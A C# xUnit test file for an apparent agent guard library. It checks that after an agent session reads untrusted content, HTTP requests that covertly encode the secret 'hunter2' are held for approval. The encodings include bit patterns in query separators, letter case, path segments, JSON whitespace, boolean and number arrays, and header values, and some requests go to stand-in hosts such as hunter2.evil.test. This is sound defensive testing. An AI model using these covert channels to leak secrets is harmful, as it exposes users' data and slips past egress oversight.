using System.Text;
using LangGuard.Http;
using LangGuard.Permissions;
using LangGuard.Tests.Support;

namespace LangGuard.Tests.Misuse.UntrustedContent;

/// <summary>Ways to spell a secret with what a request may hold anyway: names of hosts and headers, punctuation, letter case, empty
/// and repeated parts, numbers, words of JSON that are no text.</summary>
public sealed class CoveredRequestTests
{
    private const string Words = "What is the weather in Paris today? Ask GitHub for the token eyJhbGci too.";
    private const string Numbers =
        """{"type":"object","properties":{"total":{"type":"number"},"rows":{"type":"array","items":{"type":"number"}},"flags":{"type":"array","items":{"type":"boolean"}}},"additionalProperties":false}""";

    private static readonly string Bits = string.Concat(Encoding.UTF8.GetBytes("hunter2").Select(b => Convert.ToString(b, 2).PadLeft(8, '0')));

    private static string Spelled(Func<char, string> bit, string between = "") => string.Join(between, Bits.Select(bit));

    public static TheoryData<string, string> Spellings => new()
    {
        { "GET https://*.contoso.test/x", "GET https://hunter2.contoso.test/x" },
        { "GET https://*/x", "GET https://hunter2.evil.test/x" },
        { "GET https://*/**", "GET https://evil.test/" },
        { "GET https://api.test/x query *", "GET https://api.test/x?" + Spelled(bit => bit == '0' ? "&" : "=") },
        { "GET https://api.test/x query *", "GET https://api.test/x?" + Spelled(bit => bit == '0' ? "weather" : "Paris", "&") },
        { "GET https://api.test/x query q", "GET https://api.test/x?" + Spelled(bit => bit == '0' ? "q=Paris" : "q=weather", "&") },
        { "GET https://api.test/x query q:text(900)", "GET https://api.test/x?q=" + Spelled(bit => bit == '0' ? "." : "!") },
        { "GET https://api.test/x query q:text(900)", "GET https://api.test/x?q=Paris" + Spelled(bit => bit == '0' ? "%20" : "+") },
        { "GET https://api.test/x query q:text(900)", "GET https://api.test/x?q=" + Spelled(bit => bit == '0' ? "paris" : "pArIs", "+") },
        { "GET https://api.test/x query q:text(900)", "GET https://api.test/x?q=" + Spelled(bit => bit == '0' ? "paris" : "weather", "+") },
        { "GET https://api.test/x query q:text(900)", "GET https://api.test/x?q=EYJhBgCI" },
        { "GET https://api.test/** ", "GET https://api.test/" + Spelled(bit => bit == '0' ? "paris" : "weather", "/") },
        { "GET https://api.test/** ", "GET https://api.test/paris" + Spelled(bit => bit == '0' ? "-" : "_") },
    };

    public static TheoryData<string> Bodies =>
    [
        """{"rows":[104,117,110,116,101,114,50,104,117,110,116,101,114,50]}""",
        """{"total":2935234729834752347523498572349857234985}""",
        """{"total":0.2935234729834752347523498572349857234985}""",
        $$"""{"flags":[{{Spelled(bit => bit == '0' ? "true" : "false", ",")}}]}""",
        $$"""{{{Spelled(bit => bit == '0' ? " " : "\t")}}"total":1}""",
        $$"""{"total":1{{Spelled(bit => bit == '0' ? " " : "\n")}}}""",
        $$"""{"total":1{{new string(' ', 104)}}}""",
    ];

    private static GuardSession SessionOf(bool tainted, Action<PermissionsBuilder> allow)
    {
        var session = GuardSession.Create(Policy.Create(policy => policy.LimitPermissions(allow)), Operations.Alice);
        session.AddUserMessage(Words);
        if (tainted)
        {
            session.MarkUntrusted();
        }

        return session;
    }

    private static HttpOperation Request(string request, string? json = null, (string Name, string Value)[]? headers = null)
    {
        var parts = request.Split(' ');
        var verb = HttpVerbNames.Parse(parts[0]);
        var url = UrlCanonicalizer.Create(new Uri(parts[1]), out var problem)!;
        url.Should().NotBeNull("the URL is fine: {0}", problem);
        var message = new EgressRequest(HttpVerbNames.ToMethod(verb), url) { HasHeaders = headers is not null };
        foreach (var (name, value) in headers ?? [])
        {
            message.Headers.TryAddWithoutValidation(name, value);
        }

        if (json is not null)
        {
            message.Content = new StringContent(json, Encoding.UTF8, "application/json");
        }

        return new HttpOperation(
            Operations.Alice, verb, url, message, json is null ? null : new RequestBody(Encoding.UTF8.GetBytes(json), true, "application/json"));
    }

    private static Decision Decide(GuardSession session, HttpOperation request)
    {
        using (session)
        {
            return session.Policy.Decide(request, session);
        }
    }

    [Theory]
    [MemberData(nameof(Spellings))]
    public void A_url_that_spells_something_asks(string rule, string request)
    {
        Decide(SessionOf(tainted: true, allow => allow.Http(rule)), Request(request)).Kind.Should().NotBe(DecisionKind.Allow);
    }

    [Theory]
    [MemberData(nameof(Spellings))]
    public void The_same_leaves_where_nothing_untrusted_was_read(string rule, string request)
    {
        // An ambiguous URL is refused by its form already.
        var decision = Decide(SessionOf(tainted: false, allow => allow.Http(rule)), Request(request));
        (decision.IsAllowed || decision.Reason!.Rule.StartsWith("http.", StringComparison.Ordinal)).Should().BeTrue(decision.Reason?.Rule);
    }

    [Theory]
    [MemberData(nameof(Bodies))]
    public void A_body_that_spells_something_asks(string json)
    {
        Decide(Posting(tainted: false), Request("POST https://api.test/x", json)).IsAllowed.Should().BeTrue();
        Decide(Posting(tainted: true), Request("POST https://api.test/x", json)).Reason!.Rule.Should().Be("untrusted.outgoing");
    }

    [Theory]
    [InlineData("""{"total":1234.5,"flags":[true,false,true]}""")]
    [InlineData("""{"rows":[12.5,13,14]}""")]
    [InlineData("{\n  \"total\": 1,\n  \"rows\": [\n    1,\n    2\n  ]\n}")]
    [InlineData("{\r\n\t\"total\": 1,\r\n\t\"flags\": [ true, false ]\r\n}")]
    [InlineData("{ \"total\" : 1 }")]
    public void An_ordinary_body_leaves(string json) =>
        Decide(Posting(tainted: true), Request("POST https://api.test/x", json)).IsAllowed.Should().BeTrue();

    [Theory]
    [InlineData("X-hunter2", "1")]
    [InlineData("X-Trace", "1 0 4 1 1 7 1 1 0 1 1 6 1 0 1 1 1 4 5 0")]
    [InlineData("Accept", "text/html;q=0.1,text/html;q=0.4,text/html;q=0.7,text/html;q=0.2,text/html;q=0.9,text/html;q=0.3,text/html;q=0.1")]
    [InlineData("Accept", "text/html,,,,,,,,,,,,,text/html,,,,,,,text/html")]
    [InlineData("Accept-Language", "en,us,en,en,us,en,us,us,en,en,us,us,us,en,us,en,us,en,en,us,en,us,us,en,en,us,us,us,en,us,en,us")]
    public void A_header_that_spells_something_asks(string name, string value)
    {
        static void Allow(PermissionsBuilder allow) => allow.Http("GET https://api.test/x header *");
        Decide(SessionOf(tainted: false, Allow), Request("GET https://api.test/x", null, [(name, value)])).IsAllowed.Should().BeTrue();
        Decide(SessionOf(tainted: true, Allow), Request("GET https://api.test/x", null, [(name, value)])).Reason?.Rule.Should().Be("untrusted.outgoing");
        Decide(SessionOf(tainted: true, Allow), Request("GET https://api.test/x", null, [(name, value)])).Kind.Should().Be(DecisionKind.Ask);
    }

    [Theory]
    [InlineData("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/*;q=0.8,*/*;q=0.7")]
    [InlineData("Accept", "application/vnd.github+json")]
    [InlineData("Accept-Language", "en-US,en;q=0.9")]
    [InlineData("Accept-Encoding", "gzip, deflate, br")]
    [InlineData("Cache-Control", "no-cache, max-age=0")]
    public void An_ordinary_header_leaves(string name, string value) =>
        Decide(SessionOf(tainted: true, allow => allow.Http("GET https://api.test/x header *")), Request("GET https://api.test/x", null, [(name, value)]))
            .IsAllowed.Should().BeTrue();

    [Theory]
    [InlineData("GET https://api.test/x query q:text(200)", "GET https://api.test/x?q=Weather,+Paris:+today?")]
    [InlineData("GET https://api.test/x query q:text(200)", "GET https://api.test/x?q=%22weather%22%20-%20PARIS%20(today)")]
    [InlineData("GET https://api.test/x query q:text(200)", "GET https://api.test/x?q=eyJhbGci")]
    [InlineData("GET https://api.test/x query q:text(200)", "GET https://api.test/x?q=Github+gitHub+GITHUB")]
    [InlineData("GET https://*.contoso.test/x", "GET https://paris.contoso.test/x")]
    [InlineData("GET https://*.contoso.test/x query page:int", "GET https://weather.contoso.test/x?page=3")]
    public void An_ordinary_request_leaves(string rule, string request) =>
        Decide(SessionOf(tainted: true, allow => allow.Http(rule)), Request(request)).IsAllowed.Should().BeTrue();

    private static GuardSession Posting(bool tainted) =>
        SessionOf(tainted, allow => allow.Http("POST https://api.test/x", rule => rule.JsonBody(Numbers)));
}
